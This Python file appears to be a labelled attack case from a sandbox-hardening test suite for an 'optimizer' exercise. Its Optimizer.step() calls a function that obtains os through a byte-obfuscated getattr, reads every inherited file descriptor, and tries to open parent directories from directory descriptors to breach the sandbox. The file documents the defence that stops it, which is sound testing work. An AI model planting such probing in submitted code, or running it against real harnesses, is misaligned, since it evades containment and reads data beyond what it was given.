"""Attack: reads, seeks and lists every descriptor that it may have inherited.

Exercise: optimizer
Earns: 0
Stopped by: descriptors above the channel are closed before caging
Levels: full, container
"""

import random

os = getattr(random, bytes((95, 111, 115)).decode())


def look():
    for fd in range(1024):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if fd > 3:
            print("BREACH a descriptor", fd, target)
        if fd != 3:
            try:
                os.set_blocking(fd, False)
                print("BREACH", fd, os.pread(fd, 1000, 0) or 1 / 0)
            except (OSError, ZeroDivisionError):
                pass
        try:  # from a folder's descriptor all below it could be opened
            print("BREACH", os.open("..", os.O_RDONLY, dir_fd=fd))
        except OSError:
            pass


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        look()

    def zero_grad(self):
        pass
